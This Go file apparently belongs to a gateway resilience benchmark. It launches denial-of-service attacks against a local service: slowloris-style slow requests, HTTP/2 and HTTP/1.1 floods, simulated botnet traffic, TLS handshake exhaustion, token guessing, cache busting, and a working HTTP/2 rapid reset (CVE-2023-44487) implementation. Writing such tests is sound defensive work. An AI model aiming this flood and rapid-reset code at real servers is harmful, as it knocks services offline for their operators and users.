package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack is one way to take a gateway away from others: a tool with the lines of
// its report to keep, or ours, which runs until ctx ends and says what it has done.
type attack struct {
	name   string
	report string
	tool   func(h *house) (name string, args []string)
	make   func(ctx context.Context, plain, secure int) string
}

func attacks() []attack {
	slow := func(name string, args ...string) attack {
		return attack{name: name, report: `^\s*(?:connected|closed|service available):\s+\S+`, tool: func(h *house) (string, []string) {
			at := fmt.Sprintf("http://127.0.0.1:%d%s", h.plain, customer)
			return "slowhttptest", append([]string{"-c", "2000", "-r", "500", "-l", strconv.Itoa(max(2, *seconds-1)), "-p", "3", "-u", at}, args...)
		}}
	}
	ours := func(name string, attackers int, do func(ctx context.Context, who, plain, secure int) error) attack {
		return attack{name: name, make: func(ctx context.Context, plain, secure int) string {
			return many(ctx, attackers, func(ctx context.Context, who int) error { return do(ctx, who, plain, secure) })
		}}
	}
	return []attack{
		slow("slow headers (slowloris)", "-H", "-i", "2", "-x", "24", "-t", "GET"),
		slow("slow body", "-B", "-i", "2", "-s", "8192", "-x", "10", "-t", "POST", "-f", "application/json"),
		slow("slow reading", "-X", "-w", "1", "-y", "64", "-n", "2", "-z", "32", "-k", "3"),
		slow("many ranges", "-R", "-t", "GET", "-a", "10", "-b", "3000"),
		{name: "HTTP/2 flood", report: `^requests: \d+ total|^status codes: .*`, tool: func(h *house) (string, []string) {
			return "h2load", []string{"-c", "100", "-m", "100", "-t", "1", "-D", strconv.Itoa(*seconds), fmt.Sprintf("https://127.0.0.1:%d%s", h.tls, customer)}
		}},
		{name: "HTTP/1.1 flood", report: `\d+ requests in|Socket errors: .*|Non-2xx.*`, tool: func(h *house) (string, []string) {
			return "wrk", []string{"-t", "1", "-c", "200", "-d", strconv.Itoa(*seconds), fmt.Sprintf("http://127.0.0.1:%d%s", h.plain, customer)}
		}},
		{name: "flood of 2,000 addresses", make: botnet},
		{name: "HTTP/2 rapid reset", make: rapidReset},
		ours("connections without a byte", 200, func(ctx context.Context, who, plain, _ int) error {
			c, err := dialFrom(ctx, who, plain)
			if err != nil {
				return err
			}
			_ = wait(ctx, time.Second)
			return c.Close()
		}),
		ours("TLS handshakes", 16, func(ctx context.Context, who, _, secure int) error {
			c, err := secureFrom(ctx, who, secure, "http/1.1")
			if err != nil {
				return err
			}
			return c.Close()
		}),
		ours("guessing tokens", 16, func(ctx context.Context, who, plain, _ int) error {
			return plainRequests(ctx, who%4, plain, func(n int) string {
				return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: api.bench\r\nAuthorization: Bearer eyJhbGciOiJFUzI1NiJ9.e30.%d\r\n\r\n", customer, n)
			})
		}),
		ours("busting caches", 16, func(ctx context.Context, who, plain, _ int) error {
			return plainRequests(ctx, who%4, plain, func(n int) string {
				return fmt.Sprintf("GET %s?bust=%d HTTP/1.1\r\nHost: api.bench\r\n\r\n", customer, n)
			})
		}),
	}
}

// tool runs a program and keeps what of its report the pattern finds.
func tool(ctx context.Context, pattern, name string, args ...string) string {
	ctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), time.Duration(*seconds+10)*time.Second) // to say what it did; each ends by itself
	defer cancel()
	c := exec.CommandContext(ctx, "nice", append([]string{"-n", "19", name}, args...)...)
	o, err := c.CombinedOutput()
	var said []string
	text := plainText(string(o))
	for line := range strings.SplitSeq(text, "\n") {
		if found := find(line, "("+pattern+")"); found != "" {
			said = append(said, strings.TrimSpace(found))
		}
	}
	if len(said) > 3 { // the last word counts
		said = said[len(said)-3:]
	}
	if len(said) == 0 && err != nil {
		return fmt.Sprintf("**%s: %v**", name, err)
	}
	return strings.Join(strings.Fields(strings.Join(said, ", ")), " ")
}

// plainText is s without the colours of a terminal.
func plainText(s string) string {
	var b strings.Builder
	for s != "" {
		before, rest, found := strings.Cut(s, "\x1b[")
		b.WriteString(before)
		if !found {
			break
		}
		_, s, _ = strings.Cut(rest, "m")
	}
	return b.String()
}

// many has so many attackers repeat one thing until ctx ends.
func many(ctx context.Context, attackers int, do func(ctx context.Context, who int) error) string {
	var done, failed atomic.Int64
	var all sync.WaitGroup
	for who := range attackers {
		all.Go(func() {
			for ctx.Err() == nil {
				if err := do(ctx, who); err != nil {
					failed.Add(1)
					_ = wait(ctx, 5*time.Millisecond) // refused at once: the attack must not be all the machine does
				} else {
					done.Add(1)
				}
			}
		})
	}
	all.Wait()
	return fmt.Sprintf("%d times, %d cut short", done.Load(), failed.Load())
}

// dialFrom connects from an address of attacker who, none of the good callers'.
func dialFrom(ctx context.Context, who, port int) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 66, byte(who>>8), byte(who))}, Timeout: 2 * time.Second}
	return d.DialContext(ctx, "tcp4", "127.0.0.1:"+strconv.Itoa(port))
}

// secureFrom shakes hands, too; whom it speaks with does not matter to an attacker.
func secureFrom(ctx context.Context, who, port int, proto string) (net.Conn, error) {
	c, err := dialFrom(ctx, who, port)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, SessionTicketsDisabled: true, MinVersion: tls.VersionTLS13, NextProtos: []string{proto}}) //nolint:gosec // see above
	if err := t.HandshakeContext(ctx); err != nil {
		_ = c.Close()
		return nil, err
	}
	return t, nil
}

// plainRequests sends 50 requests one after the other over a connection.
func plainRequests(ctx context.Context, who, port int, request func(n int) string) error {
	c, err := dialFrom(ctx, who, port)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	buf := make([]byte, 16<<10)
	for n := range 50 {
		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
		if _, err := io.WriteString(c, request(n)); err != nil {
			return err
		}
		if _, err := c.Read(buf); err != nil { // the rest of an answer is thrown away with the next
			return err
		}
	}
	return nil
}

// botnet has 2,000 addresses ask, each not more often than a person might.
func botnet(ctx context.Context, plain, _ int) string {
	var next atomic.Int64
	return many(ctx, 100, func(ctx context.Context, _ int) error {
		return plainRequests(ctx, int(next.Add(1)%2000), plain, func(int) string {
			return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: api.bench\r\n\r\n", customer)
		})
	})
}

// rapidReset opens streams and resets each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, _, secure int) string {
	var streams atomic.Int64
	text := many(ctx, 32, func(ctx context.Context, who int) error {
		t, err := secureFrom(ctx, who, secure, "h2")
		if err != nil {
			return err
		}
		defer func() { _ = t.Close() }()
		if _, err := io.WriteString(t, http2.ClientPreface); err != nil {
			return err
		}
		f := http2.NewFramer(t, t)
		go func() { _, _ = io.Copy(io.Discard, t) }()
		var head strings.Builder
		e := hpack.NewEncoder(&head)
		if err := f.WriteSettings(); err != nil {
			return err
		}
		for id := uint32(1); ctx.Err() == nil; id += 2 {
			head.Reset()
			for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", customer}} {
				_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
			}
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte(head.String()), EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return err
			}
			streams.Add(1)
		}
		return nil
	})
	return fmt.Sprintf("%d streams over connections made %s", streams.Load(), text)
}
